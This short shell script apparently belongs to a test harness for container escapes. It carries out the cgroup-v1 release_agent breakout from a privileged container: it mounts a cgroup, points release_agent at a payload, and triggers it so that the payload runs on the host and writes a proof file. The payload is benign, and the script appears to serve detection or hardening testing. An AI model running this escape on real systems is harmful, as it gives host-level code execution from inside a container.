# A1 cgroup-v1 release_agent escape from a privileged container
cat > "$H/ra_payload.sh" <<'P'
#!/bin/sh
echo "escaped pid=$$ ppid=$PPID parent=$(cat /proc/$PPID/comm) mntns=$(readlink /proc/$$/ns/mnt)" > "$0.proof"
P
chmod +x "$H/ra_payload.sh"
ctr_run simctr-infer-a1 ctr-infer --mount --propagation private -- sh -c '
  CG=$0/cg; mkdir -p $CG
  mount -t cgroup -o none,name=ebpfh cgroup $CG || echo "no cgroup v1 here: write-only variant"
  mkdir -p $CG/x && echo 1 > $CG/x/notify_on_release
  echo $0/ra_payload.sh > $CG/release_agent
  sh -c "echo \$\$ > $CG/x/cgroup.procs"; sleep 1
  rmdir $CG/x 2>/dev/null; umount $CG 2>/dev/null; true' "$H"
sleep 1; cat "$H/ra_payload.sh.proof"
